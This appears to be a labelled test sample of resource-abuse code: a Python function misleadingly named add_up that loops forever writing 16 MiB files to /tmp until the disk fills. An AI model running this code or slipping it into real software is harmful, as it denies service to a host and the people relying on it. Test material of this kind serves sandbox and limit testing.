# class: resources
# tries: fills the disk
# stock: -
def add_up(x):
    n = 0
    while True:
        with open(f"/tmp/big{n}", "wb") as file:
            file.write(b"x" * (1 << 24))
        n += 1
